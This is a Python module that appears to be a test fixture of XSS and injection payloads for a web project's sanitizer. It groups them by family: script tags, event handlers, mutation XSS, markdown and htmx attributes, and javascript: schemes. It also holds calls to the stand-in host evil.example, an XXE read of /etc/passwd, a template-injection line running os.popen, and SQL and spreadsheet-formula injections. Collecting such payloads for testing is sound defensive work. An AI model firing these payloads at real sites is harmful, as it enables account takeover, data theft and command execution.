"""Texts that try to run script, written for this project: one list a family.

A payload has won when a dialog opens, a request leaves our host or an htmx request
starts. `alert(1)` is what they run; `evil.example` is where they would go.
"""

from itertools import product

TAGS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/a.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<script/anything>alert(1)</script>",
    "<script type=module>alert(1)</script>",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "*/</style><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;alert(1)&lt;/script&gt;></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe src=//evil.example></iframe>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>",
    "<embed src=//evil.example/a.swf allowscriptaccess=always>",
    "<applet code=evil.class archive=//evil.example/a.jar></applet>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=set-cookie content='a=1'>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<link rel=prefetch href=//evil.example/a>",
    "<link rel=import href=//evil.example/a>",
    "<form action=//evil.example/><button>Send</button></form>",
    "<form><button formaction=javascript:alert(1)>Send</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<portal src=//evil.example></portal>",
    "<fencedframe src=//evil.example></fencedframe>",
)

HANDLERS = (
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=x:x onerror\x0b=alert(1)>",
    "<img src='1' onerror='alert(1)' <",
    "<IMG SRC=x ONERROR=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=`x` onerror=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<img srcset=//evil.example/a.png>",
    "<img src=//evil.example/a.png>",
    "<picture><source srcset=//evil.example/a.webp><img></picture>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<svg onload=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<video poster=//evil.example/a.png></video>",
    "<video><source onerror=alert(1) src=x></video>",
    "<audio src=//evil.example/a.ogg autoplay></audio>",
    "<details open ontoggle=alert(1)><summary>a</summary></details>",
    "<marquee onstart=alert(1)>a</marquee>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<p style=animation-name:a onanimationstart=alert(1)>a</p>",
    "<style>@keyframes a{}</style><b style=animation-name:a onanimationstart=alert(1)>",
    "<b onmouseover=alert(1)>over</b>",
    "<b onclick=alert(1)>click</b>",
    "<a onfocus=alert(1) autofocus tabindex=1 href=#>a</a>",
    "<div popover onbeforetoggle=alert(1) id=pop>a</div>",
    "<button popovertarget=pop onclick=alert(1)>a</button>",
    "<input type=hidden oncontentvisibilityautostatechange=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus=alert(1) x="',
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    '\\"><img src=x onerror=alert(1)>',
    "&quot;><img src=x onerror=alert(1)>",
    "x onerror=alert(1) y=",
)

FOREIGN = (
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>a</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href to=javascript:alert(1) /><text>a</a>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href=data:image/svg+xml,a#b /></svg>",
    "<svg><image href=//evil.example/a.png /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><style>@import '//evil.example/a.css';</style></svg>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<math href=javascript:alert(1)>a</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>a</maction>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>",
)

# What a parser reads one way and writes out another way.
MUTATIONS = (
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><p><style><g title='</style><img src onerror=alert(1)>'>",
    "<table><tr><td><noscript><a title='</noscript><img src onerror=alert(1)>'>",
    "<b><p><b><p><b><p></b></p><img src=x onerror=alert(1)>",
    "<a><b></a><img src=x onerror=alert(1)></b>",
    "<p><svg><style><!--</style><img src=x onerror=alert(1)>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<?xml?><img src=x onerror=alert(1)>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<option><style></option></select><img src=x onerror=alert(1)></style>",
)

ENTITIES = (
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&#0000060img src=x onerror=alert(1)&#0000062",
    "&LT;img src=x onerror=alert(1)&GT;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)%253C/script%253E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "‹script›alert(1)‹/script›",
    "<ſcript>alert(1)</ſcript>",
    "<script>alert﹙1﹚</script>",
)

SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3A;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61script:alert(1)",
    "javascript://evil.example/%0aalert(1)",
    "javascript:%61lert(1)",
    "javascript\u200b:alert(1)",
    "\u00a0javascript:alert(1)",
    "\u202ejavascript:alert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "DATA:text/html,<script>alert(1)</script>",
    "blob:https://evil.example/1",
    "view-source:javascript:alert(1)",
    "intent:evil#Intent;scheme=javascript;end",
    "file:///etc/passwd",
    "feed:javascript:alert(1)",
    "jar:https://evil.example!/a",
    "//evil.example/a",
    "/\\evil.example/a",
    "https:evil.example",
)
LINK_FORMS = (
    "[link]({})",
    "[link](<{}>)",
    "![image]({})",
    "<{}>",
)
LINKS = tuple(
    form.format(scheme) for scheme, form in product(SCHEMES, LINK_FORMS[:1])
) + tuple(
    form.format(scheme)
    for scheme, form in product(SCHEMES[:1] + SCHEMES[17:19], LINK_FORMS[1:])
)

MARKDOWN = (
    '[link](https://evil.example/ "a" onmouseover=alert(1))',
    "[link](https://evil.example/ '\"onmouseover=alert(1) x=')",
    "[link](https://evil.example/\"onmouseover='alert(1)')",
    '![alt" onerror="alert(1)](media:a.png)',
    "![<img src=x onerror=alert(1)>](https://evil.example/a.png)",
    "[<img src=x onerror=alert(1)>](https://evil.example/)",
    "[`<img src=x onerror=alert(1)>`](#a)",
    "[a]: javascript:alert(1)\n[a]",
    "<javascript:alert(1)>",
    "<https://evil.example/\"onmouseover='alert(1)'>",
    "<a@b.c\"onmouseover='alert(1)'>",
    "`<script>alert(1)</script>`",
    '``` "onmouseover=alert(1)\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "**<b onclick=alert(1)>x</b>**",
    "\\<script>alert(1)</script>",
    "\\[a](javascript:alert(1))",
    "[a](source:x\"onmouseover='alert(1)')",
    "[a](project:../../logout)",
    "[a](pack://evil.example/)",
    "[a](module:javascript:alert(1))",
    "{{{{ [a](javascript:alert(1)) }}}}",
    "[^x<img src=x onerror=alert(1)>]",
    "term\n: <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "::: callout <img src=x onerror=alert(1)>",
    "[x]{onclick=alert(1)}",
    "{: onclick=alert(1) }",
    "!!!alert(1)",
)

HTMX = (
    "<b hx-get=//evil.example/ hx-trigger=load>a</b>",
    "<b data-hx-get=/en/ data-hx-trigger=load>a</b>",
    "<b hx-post=/logout hx-trigger='load delay:1ms'>a</b>",
    "<b hx-on:click=alert(1)>a</b>",
    "<b hx-on::load=alert(1)>a</b>",
    "<b data-hx-on:load=alert(1)>a</b>",
    "<b hx-on='htmx:load: alert(1)'>a</b>",
    "<b hx-vals='js:{a: alert(1)}' hx-get=/en/ hx-trigger=load>a</b>",
    "<b hx-headers='js:alert(1)' hx-get=/en/ hx-trigger=load>a</b>",
    "<b hx-trigger='load[alert(1)]' hx-get=/en/>a</b>",
    "<b hx-ext=//evil.example hx-boost=true><a href=/logout>a</a></b>",
    "<b hx-ws=connect://evil.example hx-sse='connect:/en/'>a</b>",
    "<template data-track data-src=//evil.example/a.vtt></template>",
    "<a href=//evil.example/a.webm data-play=video data-type=video/webm>a</a>",
    "<a href=/logout data-dialog=menu>a</a>",
    '" data-hx-get="/en/" data-hx-trigger="load',
    '" hx-on:click="alert(1)" x="',
)

TEMPLATES = (
    "{{7*7}}",
    "{{ ''.__class__.__mro__ }}",
    "{% include 'layouts/page.html' %}",
    "{{ config }}{{ self }}{{ request }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "%(message)s%(x)s%%s%n",
    "{0.__class__}{x!r}",
    "{# comment #}{% raw %}",
)

CLOBBERING = (
    "<a id=htmx></a><a id=htmx name=config href=javascript:alert(1)></a>",
    "<form id=document><input name=cookie></form>",
    "<img name=getElementById><img name=body>",
    "<form name=forms><input name=action value=//evil.example></form>",
    "<a id=main></a><a id=say></a><a id=find></a>",
    "## getElementById\n\n## constructor\n\n## __proto__",
    "<object id=defaultView name=alert data=//evil.example></object>",
)

STYLES = (
    "<style>body{background:url(//evil.example/a)}</style>",
    "<style>@import url(//evil.example/a.css);</style>",
    "<b style='background:url(//evil.example/a)'>a</b>",
    "<b style=position:fixed;inset:0;z-index:99999>over all</b>",
    "<b style='width:expression(alert(1))'>a</b>",
    "<b style='behavior:url(//evil.example/a.htc)'>a</b>",
    "<b style='-moz-binding:url(//evil.example/a.xml#a)'>a</b>",
    "<font face='\"' color=\"' onclick=alert(1)\">a</font>",
    "<b class='msg bad top skip' role=alert aria-live=assertive>a</b>",
)

LETTERS = (
    "\u202e<script>alert(1)</script>\u202c",
    "\u2066\u202egnp.exe\u2069",
    "\u200b\u200c\u200d\u2060\ufeff<img src=x onerror=alert(1)>",
    "a\u0300\u0301\u0302\u0303" * 6 + "<img src=x onerror=alert(1)>",
    "\ufffe\uffff<img src=x onerror=alert(1)>",
    "\U000e0041\U000e0042<img src=x onerror=alert(1)>",
    "\ud7ff\ue000<svg onload=alert(1)>",
    "ﷺ<img src=x onerror=alert(1)>",
    "'; alert(1); //",
    '"; alert(1); //',
    "</script><!--<script>",
    "\u2028alert(1)\u2029",
    "1;alert(1)",
    "'-alert(1)-'",
    "`${alert(1)}`",
    "=cmd|' /C calc'!A0",
    "'; DROP TABLE pack; --",
    "../../../../etc/passwd",
    "&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
)

FAMILIES: dict[str, tuple[str, ...]] = {
    "tags": TAGS,
    "handlers": HANDLERS,
    "foreign": FOREIGN,
    "mutations": MUTATIONS,
    "entities": ENTITIES,
    "links": LINKS,
    "markdown": MARKDOWN,
    "htmx": HTMX,
    "templates": TEMPLATES,
    "clobbering": CLOBBERING,
    "styles": STYLES,
    "letters": LETTERS,
}
PAYLOADS: tuple[str, ...] = tuple(
    payload for family in FAMILIES.values() for payload in family
)


def one_line(payload: str) -> str:
    """Return a payload for a field that holds one line of printable text."""
    return " ".join(payload.split())


def batches(most: int, between: str = " ") -> list[str]:
    """Return all payloads, several together, in texts of at most so many letters."""
    found = [""]
    for payload in map(one_line, PAYLOADS):
        joined = f"{found[-1]}{between}{payload}" if found[-1] else payload
        if len(joined) <= most:
            found[-1] = joined
        else:
            found.append(payload[:most])
    return found
